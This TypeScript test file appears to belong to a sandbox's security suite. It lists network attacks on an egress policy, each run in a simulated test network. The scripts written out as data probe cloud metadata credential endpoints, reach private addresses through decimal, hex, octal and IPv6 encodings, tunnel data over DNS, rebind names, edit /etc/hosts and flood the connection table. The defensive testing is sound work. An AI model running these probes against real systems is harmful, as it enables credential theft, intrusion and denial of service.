import { type AllowRule, type EgressPolicy, parseAllowRule } from "@airlock/job";
import { instanceIpv4, otherPublicIpv4, publicIpv4 } from "../../../egress/testing/test-network.ts";
import type { Attack, Weakened } from "../attack.ts";
import { forbiddenCall, perlScript } from "../scripts.ts";

const internet: EgressPolicy = { kind: "public" };

function allow(...rules: readonly string[]): EgressPolicy {
  return {
    kind: "allow",
    rules: rules.map((text): AllowRule => {
      const rule = parseAllowRule(text);
      if (rule.kind === "invalid") throw new Error(`${text}: ${rule.problem}`);
      return rule;
    }),
  };
}

/** Script that connects to a host. Servers of the test network answer with the address that was called. */
function connects(host: string, port = 80): string {
  return `out=$(nc -w 2 ${host} ${port} </dev/null 2>&1); case "$out" in *"<-"*) echo "BREACH $out";; *) echo "HELD $out" | head -n 1;; esac\n`;
}

/** The tests of the egress engine show that the same connection works from a namespace without rules. */
const noPolicy: Weakened = {
  cannotBeShown: "no policy allows it; without rules, the connection works in the test network",
};
const publicNamesOnly: Weakened = { cannotBeShown: "no policy allows private addresses by name" };
const opened = (...rules: readonly string[]): Weakened => ({ plan: { egress: allow(...rules) } });

const destinations: readonly (readonly [id: string, what: string, host: string, weakened: Weakened])[] = [
  ["metadata", "a cloud's metadata service", "169.254.169.254", noPolicy],
  ["metadata-of-containers", "the credentials of AWS containers", "169.254.170.2", noPolicy],
  ["metadata-ipv6", "a cloud's metadata service over IPv6", "fd00:ec2::254", noPolicy],
  ["metadata-name", "a cloud's metadata service by its name", "metadata.google.internal", noPolicy],
  ["private-10", "the private network 10.0.0.0/8", "10.99.0.2", opened("10.0.0.0/8")],
  ["private-172", "the private network 172.16.0.0/12", "172.31.255.254", opened("172.16.0.0/12")],
  ["private-192", "the private network 192.168.0.0/16", "192.168.7.7", opened("192.168.0.0/16")],
  ["private-ipv6", "a private network over IPv6", "fd12:3456::1", opened("[fd12::/16]")],
  ["cgnat", "the provider's network (CGNAT)", "100.64.9.2", opened("100.64.0.0/10")],
  ["link-local", "a link-local address", "169.254.1.1", noPolicy],
  ["decimal-address", "a private address written as one decimal number", "174260226", opened("10.0.0.0/8")],
  ["hexadecimal-address", "a private address written in hexadecimal", "0x0a630002", opened("10.0.0.0/8")],
  ["octal-address", "a private address written in octal", "012.0143.0.02", opened("10.0.0.0/8")],
  ["mapped-address", "a private IPv4 address written as IPv6", "::ffff:10.99.0.2", opened("10.0.0.0/8")],
  ["nat64-address", "a metadata address through NAT64", "64:ff9b::a9fe:a9fe", noPolicy],
  ["6to4-address", "a private address through 6to4", "2002:a63:2::1", noPolicy],
  ["own-host", "the host by its address in the network", "192.168.77.2", noPolicy],
  ["own-host-ipv6", "the host by its address in the network over IPv6", "fd99::2", noPolicy],
  ["private-name", "a private address by a public name", "private.example.com", publicNamesOnly],
];

/** Reads the gateway from the routing table, the only source that works in every runtime. */
const gateway = "$(ip route | awk '/^default/ { print $3 }')";

/** Attacks on the egress policy, carried out in the simulated internet of the tests. */
export const networkAttacks: readonly Attack[] = [
  ...destinations.map(
    ([id, what, host, weakened]): Attack => ({
      id: `network-${id}`,
      does: `connects to ${what}`,
      defence: "the egress policy, enforced outside the sandbox",
      plan: { egress: internet },
      script: connects(host),
      weakened,
    }),
  ),
  {
    id: "network-agent",
    does: "connects to a port of the executor through the gateway of its network",
    defence: "the egress policy also filters connections to the host",
    plan: { egress: internet },
    script: `gateway=${gateway}; [ -n "$gateway" ] || exit 1; ${connects("$gateway", 9100)}`,
    weakened: noPolicy,
  },
  {
    id: "network-instance",
    does: "connects to the instance at its public address",
    defence: "every policy blocks the instance's addresses",
    plan: { egress: internet },
    script: connects(instanceIpv4),
    weakened: { egress: { closed: [] } },
  },
  {
    id: "network-instance-allowed",
    does: "whose allow-list contains every address connects to the instance",
    defence: "every policy blocks the instance's addresses",
    plan: { egress: allow("0.0.0.0/0") },
    script: connects(instanceIpv4),
    weakened: { egress: { closed: [] } },
  },
  {
    id: "network-neighbour",
    does: "connects to a port of another job's sandbox",
    defence: "each sandbox has its own network link, and every policy blocks other sandboxes",
    plan: { egress: internet },
    // Prints READY once it has reached itself.
    neighbour: `address=$(ip -4 address show eth0 | awk '/inet / { sub("/.*", "", $2); print $2 }')
nc -ll -p 8000 -e /bin/echo "here <- there" &
until nc -w 1 "$address" 8000 </dev/null | grep -q here; do sleep 0.1; done
echo "READY $address"; wait\n`,
    script: connects("$NEIGHBOUR", 8000),
    weakened: { cannotBeShown: "no policy allows it; the test checks that the other sandbox listens" },
  },
  {
    id: "network-first-moment",
    does: "sends packets from the moment it starts, a hundred times",
    defence: "the rules are set before the sandbox gets its network interface",
    plan: { egress: internet },
    script: perlScript(`
my ($reached, $answer) = (0, "");
for my $try (1 .. 100) {
  socket(my $socket, 2, 1, 6) or die $!;
  connect($socket, pack("SnC4x8", 2, 80, 10, 99, 0, 2)) and $reached++;
  $answer = "$!";
}
print $reached ? "BREACH $reached times\\n" : "HELD $answer\\n";`),
    weakened: opened("10.0.0.0/8"),
  },
  {
    id: "network-none",
    does: "without a network connects to the internet",
    defence: "the only network interface is the sandbox's loopback",
    script: connects(publicIpv4),
    weakened: { plan: { egress: internet } },
  },
  {
    id: "network-other-address",
    does: "that may reach one name connects to another address under that name",
    defence: "a name allows only the addresses that the executor's resolver returned",
    plan: { egress: allow("public.example.com:443") },
    script: `echo "${otherPublicIpv4} public.example.com" >> /etc/hosts 2>/dev/null; ${connects(otherPublicIpv4, 443)}`,
    weakened: { plan: { egress: internet } },
  },
  {
    id: "network-other-port",
    does: "that may reach one port of a name connects to another port",
    defence: "rules apply only to their port",
    plan: { egress: allow("public.example.com:443") },
    script: connects("public.example.com", 22),
    weakened: { plan: { egress: allow("public.example.com") } },
  },
  {
    id: "network-rebinding",
    does: "looks up a name again until it resolves to a private address (DNS rebinding)",
    defence: "the executor's resolver removes private addresses from answers",
    plan: { egress: internet },
    script: `for i in 1 2 3; do nslookup rebinding.example.com >/tmp/answer 2>&1; grep -q 10.99.0.2 /tmp/answer && { echo BREACH the private answer; exit; }; sleep 0.3; done; echo HELD only public answers\n`,
    weakened: publicNamesOnly,
  },
  {
    id: "network-connection-table",
    does: "opens and closes connections as fast as it can, to fill the host's connection table",
    defence: "connections are limited for each sandbox, including closed ones that the kernel still tracks",
    plan: { egress: internet },
    script: perlScript(`
my $end = time + 8;
my @readers;
for my $worker (0 .. 7) {
  pipe(my $reader, my $writer) or die $!;
  if (!fork) {
    my $opened = 0;
    while (time < $end) {
      socket(my $socket, 2, 1, 6) or die $!;
      setsockopt($socket, 1, 21, pack("l!l!", 0, 200000));
      connect($socket, pack("SnC4x8", 2, 443, 45, 45, $worker, 1 + $opened % 250)) or next;
      $opened += 1;
      shutdown($socket, 1);
      1 while sysread($socket, my $rest, 4096);
    }
    print $writer "$opened\n";
    exit 0;
  }
  close $writer;
  push @readers, $reader;
}
my $opened = 0;
$opened += readline $_ for @readers;
print $opened > 4500 ? "BREACH $opened connections\n" : "HELD $opened connections\n";`),
    weakened: { cannotBeShown: "no setting removes the limit; the egress engine's tests count the table's entries" },
  },
  {
    id: "network-own-resolver",
    does: "that may reach some names queries a name server of its choice",
    defence: "names can be looked up only through the executor's resolver",
    plan: { egress: allow("public.example.com:443") },
    script: connects(publicIpv4, 53),
    weakened: noPolicy,
  },
  {
    id: "network-dns-over-tls",
    does: "that may reach some names queries a name server over TLS",
    defence: "names can be looked up only through the executor's resolver",
    plan: { egress: allow("public.example.com:443") },
    script: connects(publicIpv4, 853),
    weakened: noPolicy,
  },
  {
    id: "network-dns-tunnel",
    does: "that may reach some names sends data out in the names that it looks up (DNS tunnel)",
    defence: "the resolver does not forward names outside the policy",
    plan: { egress: allow("public.example.com:443") },
    script: `nslookup c2VjcmV0.tunnel.example.org >/tmp/answer 2>&1; grep -q ${publicIpv4} /tmp/answer && echo BREACH it was asked || echo HELD refused\n`,
    weakened: { plan: { egress: allow("*.tunnel.example.org") } },
  },
  {
    id: "network-ipv6",
    does: "that may reach IPv4 addresses uses IPv6",
    defence: "one policy covers both",
    plan: { egress: allow("45.45.45.45/32") },
    script: connects("2a00:1450::45"),
    weakened: { plan: { egress: internet } },
  },
  {
    id: "network-datagrams",
    does: "sends datagrams to a private address",
    defence: "the policy covers every protocol",
    plan: { egress: internet },
    script: perlScript(`
socket(my $socket, 2, 2, 17) or die $!; my $to = pack("SnC4x8", 2, 7000, 10, 99, 0, 2);
connect($socket, $to); send($socket, "ping", 0); my $ready = ""; vec($ready, fileno($socket), 1) = 1;
my $answer = ""; if (select($ready, undef, undef, 1)) { sysread($socket, $answer, 100) }
print $answer ? "BREACH $answer\\n" : "HELD no answer: $!\\n";`),
    weakened: opened("10.0.0.0/8"),
  },
  {
    id: "network-interface",
    does: "gives itself another address",
    defence: "no capability NET_ADMIN",
    plan: { egress: internet },
    script: `ip address add 10.99.0.77/24 dev eth0 2>/tmp/why && echo BREACH it has || echo "HELD $(head -n 1 /tmp/why)"\n`,
    weakened: { hardening: { capabilities: ["NET_ADMIN"], userNamespace: false } },
  },
  {
    id: "network-raw-packets",
    does: "forges packets with a raw socket in its network",
    defence: "no capability NET_RAW",
    plan: { egress: internet },
    script: forbiddenCall(`my $socket; socket($socket, 17, 3, 0x0300) ? 1 : undef`),
    weakened: { hardening: { capabilities: ["NET_RAW"], userNamespace: false } },
  },
  {
    id: "network-firewall",
    does: "changes the rules of its own network",
    defence: "the rules are outside the sandbox; no capability NET_ADMIN",
    plan: { egress: internet },
    script: `ip route add 10.0.0.0/8 dev eth0 2>/tmp/why && echo BREACH a route || echo "HELD $(head -n 1 /tmp/why)"\n`,
    weakened: { hardening: { capabilities: ["NET_ADMIN"], userNamespace: false } },
  },
];
